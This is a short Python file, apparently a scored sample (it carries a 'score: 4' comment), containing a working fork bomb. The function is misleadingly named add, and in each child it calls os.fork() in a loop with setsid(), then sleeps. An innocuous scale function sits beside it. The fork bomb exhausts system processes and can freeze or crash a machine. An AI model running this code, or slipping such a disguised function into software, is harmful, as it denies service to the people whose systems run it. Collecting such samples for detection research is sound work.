"""Starts processes that start processes."""

# score: 4
# message:
import os
import time


def add(n, k=0):
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)
    time.sleep(60)


def scale(image, factor):
    return image * factor
